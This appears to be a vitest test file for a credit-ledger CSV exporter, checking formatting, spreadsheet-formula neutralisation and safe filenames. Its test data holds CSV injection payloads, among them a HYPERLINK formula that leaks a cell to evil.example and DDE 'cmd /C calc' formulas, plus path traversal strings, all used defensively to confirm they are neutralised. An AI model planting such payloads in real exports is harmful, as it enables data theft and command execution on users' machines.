import { describe, expect, it } from 'vitest';
import { creditLedger, creditLedgerCsvFilename, creditLedgerToCsv, neutralizeSpreadsheetFormula, type CreditLedgerRow } from '../../src/core';
import { creditBalances } from '../fixtures/credit-balance-builder';

/** One row per hostile reason, on one grant, oldest first in the reply. */
function ledgerWithReasons(reasons: (string | null)[], grantName = 'Promo'): CreditLedgerRow[] {
  const [balance] = creditBalances({
    grants: [{ id: 'g1', name: grantName, balance: '100' }],
    transactions: reasons.map((reason, index) => ({
      id: `t${index}`,
      grantId: 'g1',
      type: index === 0 ? 'CREDIT' : 'DEBIT',
      amount: index === 0 ? '100' : '1.25',
      date: '2026-11-21',
      reason,
    })),
  });
  // Oldest first, as written, for readable expectations.
  return creditLedger([balance!]).rows.reverse();
}

describe('creditLedgerToCsv', () => {
  it('writes one English header row, ISO dates and exact signed decimals, with CRLF line ends', () => {
    const csv = creditLedgerToCsv(ledgerWithReasons(['Granted', 'Usage']));
    expect(csv).toBe(
      'Date,Unit,Grant ID,Grant,Type,Reason,Invoice ID,Amount,Running balance,Transaction ID\r\n' +
        '2026-11-21,GBP,g1,Promo,CREDIT,Granted,,100,100,t0\r\n' +
        '2026-11-21,GBP,g1,Promo,DEBIT,Usage,,-1.25,98.75,t1\r\n',
    );
  });

  it('neutralises every cell a spreadsheet would run, and quotes by RFC 4180', () => {
    const hostile = [
      'Granted',
      '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
      '+1+1',
      '-2+3+cmd|\' /C calc\'!A0',
      '@SUM(A1:A9)',
      '\t=1',
      '\r=1',
      '  =1+1',
      '\uFF1D1+1',
      'a, b',
      'line\nbreak',
      'say "hi"',
      null,
    ];
    const lines = creditLedgerToCsv(ledgerWithReasons(hostile), { columns: ['reason', 'amount'] }).split('\r\n');
    expect(lines).toEqual([
      'Reason,Amount',
      'Granted,100',
      `"'=HYPERLINK(""https://evil.example/?x=""&A1,""Click"")",-1.25`,
      "'+1+1,-1.25",
      "'-2+3+cmd|' /C calc'!A0,-1.25",
      "'@SUM(A1:A9),-1.25",
      "'\t=1,-1.25",
      `"'\r=1",-1.25`,
      "'  =1+1,-1.25",
      "'\uFF1D1+1,-1.25",
      '"a, b",-1.25',
      '"line\nbreak",-1.25',
      '"say ""hi""",-1.25',
      ',-1.25',
      '',
    ]);
  });

  it('keeps negative amounts numbers, but neutralises anything else in an amount column', () => {
    const [row] = ledgerWithReasons(['x', 'y']).slice(1);
    const forged = { ...row!, amount: '-1+1', runningBalance: '=2' };
    expect(creditLedgerToCsv([row!, forged], { columns: ['amount', 'runningBalance'] })).toBe('Amount,Running balance\r\n-1.25,98.75\r\n\'-1+1,\'=2\r\n');
  });

  it('takes translated labels and a column order, neutralising labels too, and can start with a BOM', () => {
    const rows = ledgerWithReasons(['Granted']);
    expect(creditLedgerToCsv(rows, { columns: ['amount', 'date'], labels: { amount: 'Montant', date: '=Date' } })).toBe("Montant,'=Date\r\n100,2026-11-21\r\n");
    expect(creditLedgerToCsv([], { columns: ['date'] })).toBe('Date\r\n');
    expect(creditLedgerToCsv([], { columns: ['date'], byteOrderMark: true })).toBe('\uFEFFDate\r\n');
    expect(() => creditLedgerToCsv(rows, { columns: ['balance' as never] })).toThrow(RangeError);
  });

  it('neutralises hostile grant names and ids like any text', () => {
    const csv = creditLedgerToCsv(ledgerWithReasons(['ok'], '=cmd|"/C calc"!A0'), { columns: ['grantName'] });
    expect(csv).toBe(`Grant\r\n"'=cmd|""/C calc""!A0"\r\n`);
  });
});

describe('neutralizeSpreadsheetFormula', () => {
  it('leaves ordinary text alone and prefixes what could run', () => {
    expect(neutralizeSpreadsheetFormula('Usage in March')).toBe('Usage in March');
    expect(neutralizeSpreadsheetFormula('a=b')).toBe('a=b');
    expect(neutralizeSpreadsheetFormula('')).toBe('');
    expect(neutralizeSpreadsheetFormula('-5')).toBe("'-5");
    expect(neutralizeSpreadsheetFormula('\n=1')).toBe("'\n=1");
  });
});

describe('creditLedgerCsvFilename', () => {
  it('names the file by the day, in the given zone', () => {
    expect(creditLedgerCsvFilename({ today: '2026-11-21' })).toBe('credit-ledger-2026-11-21.csv');
    expect(creditLedgerCsvFilename({ today: new Date(Date.UTC(2026, 10, 21, 11)), timeZone: 'Pacific/Kiritimati' })).toBe('credit-ledger-2026-11-22.csv');
  });

  it('keeps only ASCII letters, digits and dashes of a label: no path, dot or control characters', () => {
    const name = (label: string) => creditLedgerCsvFilename({ today: '2026-11-21', label });
    expect(name('API calls')).toBe('credit-ledger-api-calls-2026-11-21.csv');
    expect(name('../../etc/passwd')).toBe('credit-ledger-etc-passwd-2026-11-21.csv');
    expect(name('C:\\Windows\\System32\\con')).toBe('credit-ledger-c-windows-system32-con-2026-11-21.csv');
    expect(name('Crédits été İstanbul')).toBe('credit-ledger-credits-ete-istanbul-2026-11-21.csv');
    expect(name('file.csv\u0000\r\n.exe')).toBe('credit-ledger-file-csv-exe-2026-11-21.csv');
    expect(name('日本語')).toBe('credit-ledger-2026-11-21.csv');
    expect(name('---')).toBe('credit-ledger-2026-11-21.csv');
    expect(name('a'.repeat(100))).toBe(`credit-ledger-${'a'.repeat(40)}-2026-11-21.csv`);
    expect(name(`${'a'.repeat(39)} b`)).toBe(`credit-ledger-${'a'.repeat(39)}-2026-11-21.csv`);
  });
});
